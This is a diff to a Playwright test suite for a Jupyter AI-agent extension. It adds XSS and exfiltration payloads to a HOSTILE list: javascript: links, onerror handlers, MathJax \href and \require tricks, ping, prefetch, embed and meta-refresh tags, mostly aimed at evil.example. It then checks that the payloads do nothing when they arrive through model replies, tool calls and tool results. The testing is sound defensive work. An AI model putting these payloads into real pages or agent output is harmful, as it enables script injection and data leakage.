@@ -28,6 +28,11 @@ HOSTILE = [
     "[a](javascript:window.pwned=1) ![b](https://evil.example/?q=secret) ![c](data:text/html,x)",
     r"$\text{<img src=x onerror='window.pwned = 1'>}$ \(\href{javascript:window.pwned=1}{click}\)",
     "<math><mtext><img src=x onerror='window.pwned = 1'></mtext></math>",
+    r"$\href{javascript:window.pwned=1}{a}$ $\href{https://evil.example}{b}$ $\style{position:fixed}{c}$ $5 and $6",
+    r"$$\unicode{x41} \class{jp-mod-style}{d}$$ \[\require{html} \cssId{main}{e}\]",
+    "<a href='https://evil.example/?q=secret' ping='//evil.example'>f</a> <link rel=prefetch href=//evil.example>",
+    "<object data='https://evil.example/o'></object> <embed src='data:text/html,x'>",
+    "<meta http-equiv=refresh content='0;https://evil.example/m'>",
 ]
 
 
@@ -350,14 +355,28 @@ def test_f1_a_command_that_reaches_for_keys_is_pointed_out_on_its_card(notebook,
     expect(nb.panel.locator(".piano-call[data-state='denied'] .piano-flag")).to_contain_text("reaches for keys")
 
 
-def test_hostile_text_does_nothing_in_the_panel_in_a_cell_or_in_the_saved_notebook(notebook, stub_model):
+def test_g1_g2_hostile_text_does_nothing_in_the_panel_in_a_cell_or_in_the_saved_notebook(notebook, stub_model):
     everything = "\n\n".join(HOSTILE)
     stub_model.says(
         Say(everything, call=("<img src=x onerror='window.pwned=1'>", {"a": everything}), reasoning=everything),
+        Say(call=("read_file", {"path": HOSTILE[0]})),
+        Say(call=("leak", {})),
         everything,
         everything,
     )
-    nb = notebook([OPEN, f"%%piano\n{everything}"])
+    leak = f"@tool\ndef leak() -> str:\n    'Leak.'\n    return {everything!r}"
+    nb = notebook(
+        [
+            f"{LOAD}\nfrom piano_jupyter import tool\n{leak}",
+            "await piano.update_agent('Assistant', enabled_tools=['leak', 'read_file']);",
+            "%piano panel",
+            f"%%piano\n{everything}",
+            "%piano history",
+            "%piano threads",
+            "%piano sql SELECT content FROM messages UNION ALL SELECT result FROM tool_results",
+            "%piano search evil",
+        ]
+    )
     asked_for, dialogs = [], []
     nb.page.on("request", lambda request: asked_for.append(request.url))
     nb.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
@@ -367,21 +386,29 @@ def test_hostile_text_does_nothing_in_the_panel_in_a_cell_or_in_the_saved_notebo
         assert [url for url in asked_for if "evil" in url or url.startswith("data:text")] == []
         assert dialogs == []
         shown = nb.root.locator(".piano-log, .jp-OutputArea-output:not(:has(.piano-panel))")
-        assert shown.locator("img, script, style, iframe, form, svg, input, object").count() == 0
+        assert shown.locator("img, script, style, iframe, form, svg, input, object, embed, link, meta").count() == 0
+        assert shown.locator("mjx-container").count() == 0
+        for href, beside in shown.locator("a").evaluate_all(
+            "all => all.map(each => [each.getAttribute('href'), each.nextElementSibling?.textContent])"
+        ):
+            assert href.startswith("https://evil.example/")
+            assert "evil.example" in beside
 
-    nb.run(0)
+    for i in range(3):
+        nb.run(i)
     ask(nb, everything)
     expect(answers(nb)).to_have_count(1)
     nb.panel.locator("summary:visible").first.click()
     expect(nb.panel.locator(".piano-said").first).to_be_visible()
     looks_harmless()
-    nb.run(1)
-    expect(nb.cell(1).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
+    for i in range(3, 8):
+        nb.run(i)
+        expect(nb.cell(i).locator(".jp-OutputArea-output").last).to_contain_text("evil" if i != 5 else "Chat")
     looks_harmless()
     nb.save()
     nb.end_kernel()
     nb.reload()
-    expect(nb.cell(1).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
+    expect(nb.cell(3).locator(".jp-OutputArea-output").last).to_contain_text("evil.example")
     looks_harmless()
     nb.page.evaluate("() => window.pwned = undefined")
 
